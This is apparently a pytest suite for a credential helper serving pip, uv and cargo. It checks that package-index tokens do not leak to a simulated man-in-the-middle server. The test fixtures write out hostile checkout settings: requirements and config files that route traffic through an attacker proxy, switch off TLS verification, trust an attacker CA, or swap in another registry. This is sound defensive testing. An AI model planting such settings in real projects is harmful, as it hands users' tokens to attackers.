"""A checkout that wants the token of pip, uv or cargo: requirements files, `pip.conf`, `uv.toml`,
`.cargo/config.toml`. With the real clients.

What the protocol tells us is held back. What it doesn't tell (a proxy, a skipped check of TLS) is a
limit that the page of security states: the last tests show each one, and that the client's own
remedy on that page ends it.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from lab.clients import VENV, Run, client, real_tool, run
from lab.servers.evil import Evil, open_evil
from lab.support import BIN, ROOT, Home, pitchpoint_config
from lab.worlds.vendor import Vendor

pytestmark = pytest.mark.clients

OURS = "git.example.com"  # no server: what is sent there arrives at whoever is in between
BASIC = re.compile(r"[Bb]asic ([A-Za-z0-9+/=]+)")
PIPS = ("pip", "pip-old")


@pytest.fixture
def evil(home: Home) -> Iterator[Evil]:
    """An attacker between the user and the index, who wants a password for everything."""
    with open_evil(home.path, OURS, is_asking=True) as server:
        yield server


@pytest.fixture
def checkout(home: Home) -> Path:
    work = home.path / "checkout"
    (work / "src").mkdir(parents=True)
    (work / "src/lib.rs").write_text("")
    return work


@pytest.fixture
def tapped(evil: Evil) -> str:
    """A host of ours whose traffic the attacker hears."""
    return f"127.0.0.1:{evil.port}"


@pytest.fixture
def user(home: Home, vendor: Vendor, tapped: str) -> Home:
    """Who has set up all three clients for hosts of theirs."""
    home.configure(pitchpoint_config(vendor.address, more=f'hosts = ["{tapped}", "{OURS}"]'))
    home.environment |= {
        "PATH": f"{VENV}:{BIN}:{home.environment['PATH']}",
        "PIP_CONFIG_FILE": str(home.path / "pip.conf"),
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "PIP_NO_CACHE_DIR": "1",
        "PIP_NO_INPUT": "1",
        "UV_NO_CACHE": "1",
        "CARGO_HOME": str(home.path / "cargo"),
        "RUSTC": real_tool("rustc"),
    }
    (home.path / "pip.conf").write_text("[global]\nkeyring-provider = subprocess\n")
    for name in ("uv", "cargo"):
        done = home.run("setup", name, "pitchpoint")
        assert done.code == 0, done.err
    return home


def heard(home: Home, evil: Evil) -> bool:
    """Whether the attacker has the token, in any wrapping."""
    token = home.run("token").out.strip()
    passwords = [base64.b64decode(found).decode() for found in BASIC.findall(evil.text())]
    return token in evil.text() or any(token in password for password in passwords)


def pip(home: Home, checkout: Path, name: str, requirements: str, **variables: str) -> Run:
    """Downloads what a requirements file of the checkout says."""
    (checkout / "requirements.txt").write_text(requirements)
    home.environment |= variables
    words = ("download", "--no-deps", "-r", "requirements.txt")
    return run(home, client(name), *words, cwd=checkout, code=None)


def uv(home: Home, checkout: Path, **files: str) -> Run:
    """Resolves what the checkout wants, with these files in it."""
    for name, text in {"in_txt": "toy\n", **files}.items():
        (checkout / name.replace("_", ".")).write_text(text)
    return run(home, client("uv"), "pip", "compile", "in.txt", cwd=checkout, code=None)


def cargo(home: Home, checkout: Path, config: str, dependency: str = 'registry = "toy"') -> Run:
    """Resolves a package of the checkout, with a `.cargo/config.toml` in it."""
    (checkout / ".cargo").mkdir()
    (checkout / ".cargo/config.toml").write_text(config)
    (checkout / "Cargo.toml").write_text(
        '[package]\nname = "mine"\nversion = "0.1.0"\nedition = "2021"\n'
        f'[dependencies]\ntoycrate = {{ version = "1", {dependency} }}\n'
    )
    return run(home, real_tool("cargo"), "generate-lockfile", cwd=checkout, code=None)


# Plain http: pip and uv ask for the address, then in a new process for the bare host.


@pytest.mark.parametrize("path", ["simple", "my repo/simple", "a\\b/simple"])
@pytest.mark.parametrize("option", ["--index-url", "--extra-index-url"])
@pytest.mark.parametrize("name", PIPS)
def test_pip_sends_nothing_in_clear(
    user: Home, checkout: Path, evil: Evil, tapped: str, name: str, option: str, path: str
) -> None:
    """A requirements file names our index by plain http, with something odd in its path."""
    more = "" if option == "--index-url" else f"--index-url {checkout.as_uri()}\n"
    pip(user, checkout, name, f'{more}{option} "http://oauth2@{tapped}/{path}/"\ntoy\n')
    assert "/simple/toy/" in evil.text()
    assert not heard(user, evil)
    assert "by plain http" in user.run("status").out


PLAIN_UV: Mapping[str, Mapping[str, str]] = {
    "requirements": {"in_txt": "--index-url http://oauth2@{0}/simple/\ntoy\n"},
    "find-links": {"in_txt": "--find-links http://oauth2@{0}/simple/\n--no-index\ntoy\n"},
    "uv.toml": {"uv_toml": 'index-url = "http://oauth2@{0}/simple/"\n'},
    "extra": {"uv_toml": 'extra-index-url = ["http://oauth2@{0}/simple/"]\n'},
    "pyproject.toml": {
        "pyproject_toml": '[[tool.uv.index]]\nname = "t"\nurl = "http://oauth2@{0}/simple/"\n'
    },
}


@pytest.mark.parametrize("case", PLAIN_UV)
def test_uv_sends_nothing_in_clear(
    user: Home, checkout: Path, evil: Evil, tapped: str, case: str
) -> None:
    """A requirements file or the checkout's settings name our index by plain http."""
    files = {name: text.format(tapped) for name, text in PLAIN_UV[case].items()}
    uv(user, checkout, **files)
    assert "GET /simple/" in evil.text()
    assert not heard(user, evil)


def test_https_is_answered_beside_it(user: Home, tapped: str) -> None:
    """What is held back is the clear text, not the index: its own https address has an answer."""
    keyring = client("keyring")
    run(user, keyring, "get", f"http://{tapped}/simple/", "oauth2", code=1)
    assert run(user, keyring, "get", tapped, "oauth2", code=1).out == ""
    assert run(user, keyring, "get", f"https://{tapped}/simple/", "oauth2").out.strip()
    assert run(user, keyring, "get", OURS, "oauth2").out.strip()


# Other indexes, other registries, providers of the checkout's choice: nothing for them.


@pytest.mark.parametrize("option", ["--index-url", "--extra-index-url", "--find-links"])
@pytest.mark.parametrize("name", PIPS)
def test_another_index_gets_nothing_from_pip(
    user: Home, vendor: Vendor, checkout: Path, evil: Evil, name: str, option: str
) -> None:
    """Its certificate is not looked at, and it asks for a password."""
    user.configure(pitchpoint_config(vendor.address, more=f'hosts = ["{OURS}"]'))
    him = f"127.0.0.1:{evil.port}"
    text = f"{option} https://oauth2@{him}/simple/\n--trusted-host {him}\ntoy\n"
    pip(user, checkout, name, text, PIP_INDEX_URL=f"https://oauth2@{him}/other/")
    assert "GET /" in evil.text()
    assert not heard(user, evil)


def test_another_index_gets_nothing_from_uv(
    user: Home, vendor: Vendor, checkout: Path, evil: Evil
) -> None:
    """The checkout turns the keyring on, and the check of TLS off, for a host of its own."""
    user.configure(pitchpoint_config(vendor.address, more=f'hosts = ["{OURS}"]'))
    him = f"127.0.0.1:{evil.port}"
    settings = (
        f'keyring-provider = "subprocess"\nallow-insecure-host = ["{him}"]\n'
        f'index-url = "https://oauth2@{him}/simple/"\n'
    )
    uv(user, checkout, uv_toml=settings)
    assert "GET /simple/" in evil.text()
    assert not heard(user, evil)


@pytest.mark.parametrize("name", PIPS)
def test_pip_takes_no_proxy_from_a_requirements_file(
    user: Home, checkout: Path, evil: Evil, name: str
) -> None:
    """pip itself refuses the option there."""
    text = f"--proxy {evil.address}\n--index-url https://oauth2@{OURS}/simple/\ntoy\n"
    assert pip(user, checkout, name, text).code != 0
    assert evil.heard == []


CARGO: Mapping[str, str] = {
    "our name for another index": '[registries.toy]\nindex = "{him}"\n',
    "our provider for another index": (
        '[registries.toy]\nindex = "{him}"\n'
        'credential-provider = ["cargo-credential-nightporter", "--profile", "pitchpoint"]\n'
    ),
    "arguments of ours": (
        '[registries.toy]\nindex = "{him}"\n'
        'credential-provider = ["cargo-credential-nightporter", "--config", "evil.toml"]\n'
    ),
    "another index in place of ours": (
        '[registries.toy]\nindex = "{me}"\n[source.ours]\nregistry = "{me}"\n'
        'replace-with = "evil"\n[source.evil]\nregistry = "{him}"\n'
    ),
    "plain http": '[registries.toy]\nindex = "sparse+http://{tapped}/index/"\n',
}


@pytest.mark.parametrize("case", CARGO)
def test_another_registry_gets_nothing_from_cargo(
    user: Home, vendor: Vendor, checkout: Path, evil: Evil, case: str
) -> None:
    """Only the address of the index decides, whatever the checkout calls it."""
    him = f"127.0.0.1:{evil.port}"
    if case != "plain http":
        user.configure(pitchpoint_config(vendor.address, more=f'hosts = ["{OURS}"]'))
    places = {"him": f"sparse+https://{him}/index/", "me": f"sparse+https://{OURS}/index/"}
    config = CARGO[case].format(**places, tapped=him)
    cargo(user, checkout, f'{config}[http]\ncainfo = "{evil.ca_file}"\ncheck-revoke = false\n')
    assert "GET /index/config.json" in evil.text()
    assert not heard(user, evil)


# The limits: no protocol tells of these. The page names them, and what ends them.

Limit = Callable[[Home, Path, Evil], None]
PAGE = (ROOT / "plugin/docs/security.md").read_text()


def limit_of_pip(home: Home, checkout: Path, evil: Evil) -> None:
    """`--trusted-host` in a requirements file: TLS is not checked."""
    him = f"127.0.0.1:{evil.port}"
    text = f"--index-url https://oauth2@{him}/simple/\n--trusted-host {him}\ntoy\n"
    pip(home, checkout, "pip", text)


def limit_of_links(home: Home, checkout: Path, evil: Evil) -> None:
    """`--find-links` by plain http: pip asks for the bare host alone."""
    him = f"127.0.0.1:{evil.port}"
    text = f"--no-index\n--find-links http://oauth2@{him}/files/\n--trusted-host {him}\ntoy\n"
    pip(home, checkout, "pip", text)


def limit_of_pip_conf(home: Home, checkout: Path, evil: Evil) -> None:
    """A pip.conf of the checkout's choice (an activated virtual environment, PIP_CONFIG_FILE)."""
    (checkout / "pip.conf").write_text(
        f"[global]\nproxy = {evil.address}\ntrusted-host = {OURS}\nkeyring-provider = subprocess\n"
        f"index-url = https://oauth2@{OURS}/simple/\n"
    )
    pip(home, checkout, "pip", "toy\n", PIP_CONFIG_FILE=str(checkout / "pip.conf"))


def limit_of_uv(home: Home, checkout: Path, evil: Evil) -> None:
    """`uv.toml`: a proxy, and no check of TLS for a host of ours."""
    settings = (
        f'https-proxy = "{evil.address}"\nallow-insecure-host = ["{OURS}"]\n'
        f'keyring-provider = "subprocess"\nindex-url = "https://oauth2@{OURS}/simple/"\n'
    )
    uv(home, checkout, uv_toml=settings)


def limit_of_pyproject(home: Home, checkout: Path, evil: Evil) -> None:
    """`[tool.uv]`: the same in the project's own file."""
    settings = (
        f'[tool.uv]\nhttps-proxy = "{evil.address}"\nallow-insecure-host = ["{OURS}"]\n'
        f'keyring-provider = "subprocess"\nindex-url = "https://oauth2@{OURS}/simple/"\n'
    )
    uv(home, checkout, pyproject_toml=settings)


def limit_of_cargo(home: Home, checkout: Path, evil: Evil) -> None:
    """`.cargo/config.toml`: a proxy, and a CA of the attacker's."""
    cargo(
        home,
        checkout,
        f'[registries.toy]\nindex = "sparse+https://{OURS}/index/"\n[http]\n'
        f'proxy = "{evil.address}"\ncainfo = "{evil.ca_file}"\ncheck-revoke = false\n',
    )


SYSTEM_CA = "/etc/ssl/certs/ca-certificates.crt"
REMEDIES: Mapping[Limit, Mapping[str, str]] = {
    limit_of_pip: {"PIP_KEYRING_PROVIDER": "disabled"},
    limit_of_links: {"PIP_KEYRING_PROVIDER": "disabled"},
    limit_of_pip_conf: {"PIP_KEYRING_PROVIDER": "disabled"},
    limit_of_uv: {"UV_CONFIG_FILE": "{home}/.config/uv/uv.toml"},
    limit_of_pyproject: {"UV_CONFIG_FILE": "{home}/.config/uv/uv.toml"},
    limit_of_cargo: {"CARGO_HTTP_PROXY": "", "CARGO_HTTP_CAINFO": SYSTEM_CA},
}


@pytest.mark.parametrize("name", ["pip", "uv", "cargo"])
def test_setup_says_what_ends_its_limits(user: Home, name: str) -> None:
    """Where a person is about to rely on it."""
    done = user.run("setup", name, "pitchpoint", "--print")
    assert "in a checkout that you don't trust" in done.out + done.err
    assert {"pip": "PIP_KEYRING_PROVIDER", "uv": "UV_CONFIG_FILE", "cargo": "CARGO_HTTP_CAINFO"}[
        name
    ] in done.out + done.err


@pytest.mark.parametrize("limit", REMEDIES, ids=lambda limit: limit.__name__)
@pytest.mark.parametrize("has_remedy", [False, True])
def test_a_limit_and_its_remedy(
    user: Home, checkout: Path, evil: Evil, limit: Limit, has_remedy: bool
) -> None:
    """The page says that this can be done, and what ends it; both are true of today's clients."""
    remedy = {name: text.format(home=user.path) for name, text in REMEDIES[limit].items()}
    assert all(name in PAGE for name in remedy)
    user.environment |= remedy if has_remedy else {}
    limit(user, checkout, evil)
    assert heard(user, evil) is not has_remedy
